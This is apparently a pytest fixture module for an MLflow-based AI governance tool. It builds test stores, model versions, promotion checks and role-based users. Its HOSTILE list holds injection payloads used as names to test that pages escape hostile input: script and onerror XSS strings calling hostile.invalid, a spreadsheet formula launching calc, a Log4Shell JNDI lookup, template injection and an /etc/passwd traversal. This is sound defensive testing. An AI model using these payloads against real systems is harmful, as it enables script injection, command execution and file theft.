"""Systems in a real MLflow as their pages show them, real servers with these pages, and what a browser is to look for in them."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from aims_mlflow.errors import PromotionBlocked
from aims_mlflow.promotion import promote
from aims_mlflow.records.review import management_review
from aims_mlflow.records.summary import summarise
from aims_mlflow.store import Store
from aims_mlflow.system import System
from tests.records import conftest as rolled
from tests.server import making, serving

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=http://hostile.invalid/x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "</style><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "--><iframe src=http://hostile.invalid/></iframe>",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![x](http://hostile.invalid/x.png)",
    "<a href='http://hostile.invalid/'>here</a>",
    "<meta http-equiv=refresh content='0;url=http://hostile.invalid/'>",
    "<style>@import 'http://hostile.invalid/x.css'</style>",
    "<base href=http://hostile.invalid/>",
    "<form action=http://hostile.invalid/><button>ok</button></form>",
    "</script><object data=http://hostile.invalid/></object>",
    "| a | b |\n# heading",
    "=cmd|'/C calc'!A1",
    "@SUM(1+1)*cmd",
    "{{ 7*7 }}{% raw %}",
    "${jndi:ldap://hostile.invalid/a}",
    "\u202etxt.exe",
    "\u2066hidden\u2069",
    "zero\u200bwidth",
    "&lt;b&gt; &#x3c;b",
    "]]><![CDATA[",
    '{"json": [1, null]}',
    "\\u003cscript\\u003e",
    "name\ud83d".encode("utf-8", "ignore").decode() + " \U0001f600 é ß 漢字",
    "../../../../etc/passwd",
    "x" * 10_000,
]
"""Names that somebody may have given to a column, a category, a party or a person."""


@dataclass
class World:
    """A folder with a database and artifacts, and the systems in it."""

    folder: Path
    store: Store
    versions: dict[str, list[str]] = field(default_factory=dict)
    """System -> the ids of its versions, oldest first."""

    @property
    def database(self) -> str:
        """The URI of the database."""
        return f"sqlite:///{self.folder / 'mlflow.db'}"

    @property
    def home(self) -> Path:
        """Where the keys are: those of the server, too."""
        return self.folder / "home"

    def record(self, system: System) -> Any:
        """Write the record of a system, and remember the ids of its versions."""
        made = summarise(system, store=self.store)
        self.versions[system.id] = [v.id for v in sorted(made.versions, key=lambda v: int(v.uri.rpartition("/")[2]) if v.name else 0)]
        return made


@contextmanager
def at_home(world: World) -> Iterator[None]:
    """Sign with the world's keys, and let what MLflow does by itself be done in its database."""
    import mlflow

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("AIMS_HOME", str(world.home))
        patch.delenv("AIMS_POLICY_DIR", raising=False)
        patch.chdir(world.folder)
        mlflow.set_tracking_uri(world.database)
        mlflow.set_registry_uri(world.database)
        try:
            yield
        finally:
            mlflow.set_tracking_uri(None)
            mlflow.set_registry_uri("")
            patch.delenv("MLFLOW_TRACKING_URI", raising=False)


def loans(**changes: Any) -> System:
    """Return a system that a person has said much about."""
    return rolled.make_system(**changes)  # type: ignore[no-any-return]


def hostile() -> System:
    """Return a system in which everything that somebody may name has a hostile name."""
    parties = [{"name": name, "size": n, "vulnerable": True, "source": name[:200]} for n, name in enumerate(HOSTILE, 1)]
    return rolled.make_system(  # type: ignore[no-any-return]
        system={
            "id": "hostile",
            "name": HOSTILE[0],
            "owner": {"name": HOSTILE[1]},
            "purpose": " ".join(HOSTILE[:29]),
            "intended_uses": HOSTILE[:15],
            "prohibited_uses": HOSTILE[15:],
            "affected_parties": parties,
            "model": "hostile",
        },
        attestations=[{"control": "A.6.2.2", "statement": " ".join(HOSTILE[:29]), "by": HOSTILE[4], "on": "2026-01-12"}],
    )


def filled(folder: Path, template: Path) -> World:
    """Fill a store: two versions that differ, one promoted; hostile names; a system without a model; one without a record; one broken."""
    shutil.copy(template, folder / "mlflow.db")
    world = World(folder, Store(f"sqlite:///{folder / 'mlflow.db'}", f"sqlite:///{folder / 'mlflow.db'}"))
    with at_home(world):
        store, runs = world.store, rolled.World(world.store, folder)

        system = loans()
        runs.version(system)
        worse = rolled.make_fairness(groups={"female": (250, 500), "male": (380, 500)})
        runs.version(system, rolled.make_results(worse, rolled.make_robustness(0.06)))
        world.record(system)

        golden = System.model_validate(making.SYSTEM)
        bad = making.trained(store, "golden", spoilt=making.failing)
        good = bad.again()
        with pytest.raises(PromotionBlocked):
            promote(bad.uri, "champion", system=golden, store=store)
        promote(good.uri, "champion", system=golden, store=store)
        world.record(golden)
        today = datetime.now(UTC).date()
        management_review(golden, today - timedelta(days=90), today, store=store)

        named = hostile()
        groups = {name[:400]: (300 + n, 600) for n, name in enumerate(HOSTILE)}
        runs.version(named, rolled.make_results(rolled.make_fairness(groups=groups)), model='hostile "><img src=x onerror=alert(1)>')
        world.record(named)

        lone = loans(system={"id": "unregistered", "name": "Not registered", "model": ""})
        runs.run(lone, register=False)
        world.record(lone)

        unread = loans(system={"id": "no-record", "name": "No record yet", "model": "no-record"})
        runs.version(unread, model="no-record")

        broken = loans(system={"id": "broken", "name": "Broken", "model": "broken"})
        runs.version(broken, model="broken")
        world.record(broken)
        run_id = next(r.run_id for r in store.system_runs("broken") if r.tags.get("aims.record") == "newest")
        store.write(run_id, "aims/record.json", b'{"state": "pass"')
    return world


class Prefixed(serving.Server):  # type: ignore[misc,name-defined]
    """A server under ``--static-prefix /ml``: everything stands below it."""

    def ask(self, verb: str, path: str, *given: Any, **more: Any) -> Any:
        return super().ask(verb, "/ml" + path, *given, **more)


def server(world: World, *more: str, **given: Any) -> Any:
    """Return a server over the world, not yet started."""
    kind = Prefixed if "--static-prefix" in more else serving.Server
    return kind(world.folder, world.database, more=more, **{"gated": False, **given})


def with_users(world: World) -> Any:
    """Start a server with users over the world, its registry under the gate; MLflow's own roles say what they may."""
    (world.folder / "auth.ini").write_text(serving.AUTH.format(folder=world.folder, password=making.password("admin")))
    env = {"MLFLOW_AUTH_CONFIG_PATH": str(world.folder / "auth.ini"), "MLFLOW_FLASK_SERVER_SECRET_KEY": "tests"}
    (world.folder / "policies").mkdir()
    env["AIMS_POLICY_DIR"] = str(world.folder / "policies")
    made = server(world, "--app-name", "aims-basic-auth", "--static-prefix", "/ml", env=env, gated=True).start()
    try:
        serving.with_users(made)
    except BaseException:
        made.stop()
        raise
    return made


def allow(server: Any, user: str, *grants: tuple[str, str, str]) -> None:
    """Make a user with a role of just these grants: kind, name, permission."""
    made = server.ask("POST", "/api/2.0/mlflow/users/create", {"username": user, "password": making.password(user)}, user="admin")
    assert made.status == 200, made
    role = server.ask("POST", "/api/3.0/mlflow/roles/create", {"workspace": "default", "name": f"role of {user}"}, user="admin")
    role_id = json.loads(role.body)["role"]["id"]
    for kind, name, permission in grants:
        body = {"role_id": role_id, "resource_type": kind, "resource_pattern": name, "permission": permission}
        added = server.ask("POST", "/api/3.0/mlflow/roles/permissions/add", body, user="admin")
        assert added.status == 200, added
    given = server.ask("POST", "/api/3.0/mlflow/roles/assign", {"username": user, "role_id": role_id}, user="admin")
    assert given.status == 200, given
